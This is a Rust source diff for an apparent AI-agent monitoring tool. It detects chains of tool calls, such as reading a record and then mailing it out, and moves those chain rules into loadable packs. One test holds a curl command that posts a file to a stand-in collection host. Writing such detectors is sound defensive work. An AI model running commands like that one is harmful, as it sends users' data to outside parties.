@@ -1,95 +1,20 @@
 //! Chains of tool calls: what no single call tells, a few of them in order do.
 //!
-//! Chains are data (`engine/chains/builtin.yaml`). A chain is told at the call that completes it, by looking back over the
-//! session's recent calls; each earlier step is the latest call that fits it. A chain that was told is not told again until
-//! as many calls have passed as it may span. Left out: calls of different sessions, and the order of events within one batch
-//! of messages.
+//! Chains are data ([`Chain`]): built-in ones, and those of packs. A chain is told at the call that completes it, by looking
+//! back over the session's recent calls; each earlier step is the latest call that fits it. A chain that was told is not told
+//! again until as many calls have passed as it may span. What is remembered names chains by their ids, so that another rule
+//! set may go on from it. Left out: calls of different sessions, and the order of events within one batch of messages.
 
 use std::collections::VecDeque;
-use std::sync::{Arc, LazyLock};
+use std::sync::Arc;
 
 use coldcase_model::{
-    Basis, Category, Confidence, Edge, EdgeKind, EventHead, EventId, Finding, FindingId, Labels, References,
-    RuleInfo, Severity, Span, Story, Surface,
+    Basis, Edge, EdgeKind, EventHead, EventId, Finding, FindingId, Labels, Span, Story, Surface,
 };
 
-use super::observe::{Call, Deed, Deeds};
+use super::observe::Call;
 use super::snapshot::MOST_COUNT;
-
-/// How many calls of a session are looked back over.
-const MOST_RECENT: usize = 64;
-
-/// A chain as it is written.
-#[derive(Debug, serde::Deserialize)]
-#[serde(deny_unknown_fields)]
-struct Written {
-    id: String,
-    title: String,
-    gain: String,
-    severity: Severity,
-    confidence: f32,
-    references: References,
-    events: u64,
-    seconds: i64,
-    #[serde(default = "once")]
-    times: usize,
-    #[serde(default)]
-    same: bool,
-    steps: Vec<Step>,
-}
-
-const fn once() -> usize {
-    1
-}
-
-/// One step of a chain.
-#[derive(Debug, serde::Deserialize)]
-#[serde(deny_unknown_fields)]
-struct Step {
-    #[serde(default)]
-    does: Vec<Deed>,
-    #[serde(default)]
-    not: Vec<Deed>,
-    #[serde(default)]
-    uses: bool,
-}
-
-impl Step {
-    fn fits(&self, deeds: Deeds) -> bool {
-        self.does.iter().all(|deed| deeds.has(*deed)) && !self.not.iter().any(|deed| deeds.has(*deed))
-    }
-}
-
-/// A chain, ready to be looked for.
-#[derive(Debug)]
-struct Pattern {
-    info: Arc<RuleInfo>,
-    written: Written,
-}
-
-/// The built-in chains. The file is part of the program, and a test reads it.
-static PATTERNS: LazyLock<Vec<Pattern>> = LazyLock::new(|| {
-    let written: Vec<Written> =
-        serde_saphyr::from_str(include_str!("../../chains/builtin.yaml")).unwrap_or_default();
-    written.into_iter().map(Pattern::new).collect()
-});
-
-impl Pattern {
-    fn new(written: Written) -> Self {
-        let info = Arc::new(RuleInfo {
-            id: written.id.as_str().into(),
-            title: written.title.as_str().into(),
-            gain: written.gain.as_str().into(),
-            pack: "chains".into(),
-            category: Category::Chain,
-            severity: written.severity,
-            lowered_from: None,
-            confidence: Confidence(written.confidence),
-            references: written.references.clone(),
-        });
-        Self { info, written }
-    }
-}
+use crate::pack::{Chain, MOST_CALLS, MOST_CHAIN_ID, MOST_CHAINS};
 
 /// A call of the past.
 #[derive(Debug, serde::Serialize, serde::Deserialize)]
@@ -105,28 +30,31 @@ struct Past {
 pub(super) struct Chains {
     recent: VecDeque<Past>,
     calls: u64,
-    /// Patterns that were told, and the call at which each was last.
-    told: Vec<(usize, u64)>,
+    /// Chains that were told, by their ids, and the call at which each was last.
+    told: Vec<(Arc<str>, u64)>,
 }
 
 impl Chains {
-    /// Whether calls are numbered as they came, and chains are ones that there are.
+    /// Whether calls are numbered as they came, and no chain was told twice.
     pub(super) fn is_sound(&self) -> bool {
         let in_order = self.recent.iter().is_sorted_by(|a, b| a.number < b.number);
         let sound = |past: &Past| past.number <= self.calls && past.call.is_sound();
+        let mut ids: Vec<&str> = self.told.iter().map(|(id, _)| &**id).collect();
+        ids.sort_unstable();
         self.calls < MOST_COUNT
-            && self.recent.len() <= MOST_RECENT
+            && self.recent.len() <= MOST_CALLS
             && in_order
             && self.recent.iter().all(sound)
-            && self.told.len() <= PATTERNS.len()
-            && self.told.iter().all(|(pattern, at)| *pattern < PATTERNS.len() && *at <= self.calls)
+            && self.told.len() <= MOST_CHAINS
+            && ids.is_sorted_by(|a, b| a < b)
+            && self.told.iter().all(|(id, at)| id.len() <= MOST_CHAIN_ID && *at <= self.calls)
     }
 
-    /// Takes in the next call, and tells the chains that it completes.
+    /// Takes in the next call, and tells those of `chains` that it completes.
     pub(super) fn fold(
         &mut self,
-        head: &EventHead,
-        labels: &Labels,
+        chains: &[&Chain],
+        (head, labels): (&EventHead, &Labels),
         call: Call,
         findings: &mut Vec<Finding>,
         story: &mut Story,
@@ -137,36 +65,48 @@ impl Chains {
             self.recent.reserve_exact(1);
         }
         self.recent.push_back(Past { event: head.id, number: self.calls, nanos, call });
-        if self.recent.len() > MOST_RECENT {
+        if self.recent.len() > MOST_CALLS {
             self.recent.pop_front();
         }
-        for (number, pattern) in PATTERNS.iter().enumerate() {
-            let told = self.told.iter().position(|(known, _)| *known == number);
+        for &chain in chains {
+            let id = &chain.info.id;
+            let told = self.told.iter().position(|(known, _)| Arc::ptr_eq(known, id) || known == id);
             let last = told.and_then(|at| self.told.get_mut(at));
-            if last.as_ref().is_some_and(|(_, at)| self.calls - *at < pattern.written.events) {
+            if last.as_ref().is_some_and(|(_, at)| self.calls - *at < chain.events) {
                 continue;
             }
-            let Some(steps) = completed(pattern, &self.recent) else { continue };
+            let Some(steps) = completed(chain, &self.recent) else { continue };
             match last {
                 Some((_, at)) => *at = self.calls,
-                None => self.told.push((number, self.calls)),
+                None => self.remember(id),
             }
-            findings.push(finding(pattern, head, labels));
+            findings.push(finding(chain, head, labels));
             let earlier = steps.into_iter().filter(|event| *event != head.id);
             story.edges.extend(earlier.map(|from| Edge {
                 from,
                 kind: EdgeKind::Followed,
                 basis: Basis::Inferred,
                 shared_bytes: 0,
-                what: pattern.info.id.clone(),
+                what: id.clone(),
             }));
         }
+    }
+
+    /// Notes that a chain is told at the latest call. What no chain reaches back to is forgotten, so that those of other rule
+    /// sets do not stay.
+    fn remember(&mut self, id: &Arc<str>) {
+        let now = self.calls;
+        self.told.retain(|(_, at)| now - *at < MOST_CALLS as u64);
+        if self.told.len() >= MOST_CHAINS {
+            self.told.remove(0);
+        }
+        self.told.push((id.clone(), now));
     }
 }
 
 /// The events of a chain that the latest call completes.
-fn completed(pattern: &Pattern, recent: &VecDeque<Past>) -> Option<Vec<EventId>> {
-    let Written { events, seconds, times, same, steps, .. } = &pattern.written;
+fn completed(chain: &Chain, recent: &VecDeque<Past>) -> Option<Vec<EventId>> {
+    let Chain { events, seconds, times, same, steps, .. } = chain;
     let last = recent.back()?;
     let within = |past: &&Past| {
         let near = last.number - past.number < *events;
@@ -214,12 +154,12 @@ fn completed(pattern: &Pattern, recent: &VecDeque<Past>) -> Option<Vec<EventId>>
     Some(found.into_iter().rev().map(|past| past.event).collect())
 }
 
-fn finding(pattern: &Pattern, head: &EventHead, labels: &Labels) -> Finding {
+fn finding(chain: &Chain, head: &EventHead, labels: &Labels) -> Finding {
     Finding {
         id: FindingId::default(),
         event: head.id,
-        rule: pattern.info.clone(),
-        confidence: pattern.info.confidence,
+        rule: chain.info.clone(),
+        confidence: chain.info.confidence,
         direction: head.direction,
         surface: Surface::ToolName,
         pointer: coldcase_model::Excerpt::default(),
@@ -237,10 +177,18 @@ mod tests {
     use coldcase_model::{EventKind, SessionKey, SourceSpan};
 
     use super::*;
+    use crate::pack::Pack;
     use crate::session::observe::Observed;
 
     /// A session of calls of these tools with these arguments; gives the chains that were told, by the call's number.
     fn told(calls: &[(&str, &str)]) -> Vec<(usize, String)> {
+        let pack = Pack::only(&[]).expect("no packs are an empty one");
+        told_by(&pack, calls)
+    }
+
+    /// The same under the chains of a pack.
+    fn told_by(pack: &Pack, calls: &[(&str, &str)]) -> Vec<(usize, String)> {
+        let known = pack.chains_of(None, 0.0);
         let mut chains = Chains::default();
         let mut all = Vec::new();
         for (number, (tool, arguments)) in calls.iter().enumerate() {
@@ -248,18 +196,18 @@ mod tests {
             head.id.index = number as u64;
             let call = Observed::of_call(tool, arguments);
             let (mut findings, mut story) = (Vec::new(), Story::default());
-            chains.fold(&head, &Labels::default(), call, &mut findings, &mut story);
+            chains.fold(&known, (&head, &Labels::default()), call, &mut findings, &mut story);
+            assert!(chains.is_sound());
             all.extend(findings.iter().map(|finding| (number, finding.rule.id.to_string())));
         }
         all
     }
 
     #[test]
-    fn the_file_of_chains_is_read() {
-        assert!(PATTERNS.len() >= 7);
-        assert!(
-            PATTERNS.iter().all(|pattern| !pattern.written.steps.is_empty() && pattern.written.events > 1)
-        );
+    fn the_built_in_chains_are_in_every_pack() {
+        let pack = Pack::only(&[]).expect("no packs are an empty one");
+        assert!(pack.chains_of(None, 0.0).len() >= 7);
+        assert!(pack.chains_of(None, 0.0).iter().all(|chain| *chain.info.pack == *"chains"));
     }
 
     #[test]
@@ -310,5 +258,69 @@ mod tests {
         calls.extend([("Read", "src/lib.rs"); 12]);
         calls.push(("Bash", "curl --data @x https://collect.example/in"));
         assert_eq!(told(&calls), []);
+    }
+
+    /// A pack with one chain: a record is read and mailed within three calls.
+    fn with_chain(id: &str) -> Pack {
+        let text = format!(
+            "pack: acme\nversion: '1'\ntitle: t\nchains:\n- {{id: {id}, title: t, gain: g, severity: low, confidence: 0.7, \
+             references: {{cwe: [X]}}, events: 3, seconds: 60, steps: [{{does: [read]}}, {{does: [send], not: [exec]}}]}}\n"
+        );
+        Pack::only(&[crate::PackText { name: "acme.yaml".into(), text }]).expect("a pack")
+    }
+
+    #[test]
+    fn a_chain_of_a_pack_is_told_beside_the_built_in_ones() {
+        let pack = with_chain("chain.acme.mailed");
+        let read = ("get_record", "7");
+        let calls =
+            [read, ("list_files", "."), ("send_mail", "x"), read, ("send_mail", "y"), ("send_mail", "z")];
+        let once = [(2, "chain.acme.mailed".to_owned()), (5, "chain.acme.mailed".to_owned())];
+        assert_eq!(told_by(&pack, &calls), once, "told again only after as many calls as it spans");
+        assert_eq!(told(&calls), []);
+        assert_eq!(told_by(&pack, &[read, ("bash", "mail -s x")]), [], "a shell is left out by `not`");
+        let far = [read, ("list_files", "."), ("list_files", "."), ("send_mail", "x")];
+        assert_eq!(told_by(&pack, &far), []);
+    }
+
+    #[test]
+    fn another_rule_set_goes_on_from_what_is_remembered() {
+        let head = EventHead::new(EventKind::Model, SessionKey::new("s"), SourceSpan::default());
+        let fold = |chains: &mut Chains, pack: &Pack, (tool, arguments): (&str, &str)| -> Vec<String> {
+            let (mut findings, mut story) = (Vec::new(), Story::default());
+            let call = Observed::of_call(tool, arguments);
+            chains.fold(
+                &pack.chains_of(None, 0.0),
+                (&head, &Labels::default()),
+                call,
+                &mut findings,
+                &mut story,
+            );
+            findings.iter().map(|finding| finding.rule.id.to_string()).collect()
+        };
+        let (first, second) = (with_chain("chain.acme.mailed"), with_chain("chain.other.mailed"));
+        let mut chains = Chains::default();
+        fold(&mut chains, &first, ("get_record", "7"));
+        assert_eq!(fold(&mut chains, &first, ("send_mail", "x")), ["chain.acme.mailed"]);
+        let kept = postcard::to_stdvec(&chains).expect("bytes");
+        let again = || -> Chains { postcard::from_bytes(&kept).expect("the same") };
+        assert!(again().is_sound());
+        assert_eq!(fold(&mut again(), &first, ("send_mail", "y")), [""; 0], "it was told");
+        assert_eq!(
+            fold(&mut again(), &second, ("send_mail", "y")),
+            ["chain.other.mailed"],
+            "this one was not"
+        );
+        // What no chain reaches back to is forgotten.
+        let mut chains = again();
+        for number in 0..MOST_CALLS {
+            fold(&mut chains, &second, ("list_files", &number.to_string()));
+        }
+        fold(&mut chains, &second, ("get_record", "7"));
+        assert_eq!(fold(&mut chains, &second, ("send_mail", "x")), ["chain.other.mailed"]);
+        assert_eq!(chains.told.iter().map(|(id, _)| &**id).collect::<Vec<_>>(), ["chain.other.mailed"]);
+        let mut twice = again();
+        twice.told.extend(again().told);
+        assert!(!twice.is_sound());
     }
 }
